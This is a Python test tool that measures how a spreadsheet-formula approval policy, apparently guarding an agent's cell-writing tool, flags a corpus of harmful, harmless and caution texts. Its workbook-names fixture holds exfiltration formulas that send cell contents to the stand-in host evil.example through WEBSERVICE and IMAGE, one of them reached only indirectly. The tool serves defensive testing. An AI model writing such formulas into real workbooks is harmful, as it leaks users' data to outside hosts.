"""How well the formula policy does on the committed corpus: what it finds, and what it asks about for nothing.

python -m tests.tools.policy.corpus_report

Three files of texts for cells. `harmful`: can reach beyond the workbook, however it is written. `harmless`: cannot.
`caution`: most likely cannot, but nobody could tell from the text alone, so that the policy asks by its own rule.
"""

import json
from collections import Counter
from collections.abc import Mapping, Sequence
from pathlib import Path
from typing import Literal, NamedTuple, get_args

from hub.tools.policy.arguments import check_arguments
from hub.tools.policy.findings import Finding
from hub.tools.policy.names import WorkbookNames

FOLDER = Path(__file__).parent / "corpus"
Label = Literal["harmful", "harmless", "caution"]

# The names of the workbook that the texts are written into.
NAMES: Mapping[str, str] = {
    "TaxRate": "=0.19",
    "Revenue": "=Sheet1!$B$2:$B$9",
    "Costs": "=Sheet1!$C$2:$C$9",
    "Limit": "=Sheet1!$E$1",
    "PriceList": "='Price List'!$A:$B",
    "Margin": "=(Revenue-Costs)/Revenue",
    "AddTax": "=LAMBDA(x,x*(1+TaxRate))",
    "Leak": '=WEBSERVICE("https://evil.example/?d="&Sheet1!A1)',
    "ViaLeak": "=IF(TRUE,Leak,0)",
    "LeakFunction": '=LAMBDA(x,IMAGE("https://evil.example/?"&x))',
}


class Case(NamedTuple):
    label: Label
    trick: str
    text: str


def cases(label: Label) -> list[Case]:
    lines = (FOLDER / f"{label}.jsonl").read_text(encoding="utf-8").splitlines()
    return [Case(label, case["trick"], case["text"]) for case in map(json.loads, lines)]


def findings(text: str, names: WorkbookNames | None) -> list[Finding]:
    return check_arguments("write_range", {"range": "A1", "values": [[text]]}, names=names)


def asked_about(of: Sequence[Case], names: WorkbookNames | None) -> list[Case]:
    return [case for case in of if findings(case.text, names)]


def main() -> None:
    for what, names in (("names read", WorkbookNames(NAMES)), ("names not read", None)):
        print(f"{what}:")
        for label in get_args(Label):
            all_of = cases(label)
            asked = set(asked_about(all_of, names))
            print(f"  {label}: {len(asked)} of {len(all_of)} need approval ({len(asked) / len(all_of):.1%})")
            wrong = [case for case in all_of if (case in asked) == (label == "harmless")]
            for trick, count in Counter(case.trick for case in wrong).items():
                print(f"    {trick}: {count}: {[case.text for case in wrong if case.trick == trick][:8]}")


if __name__ == "__main__":
    main()
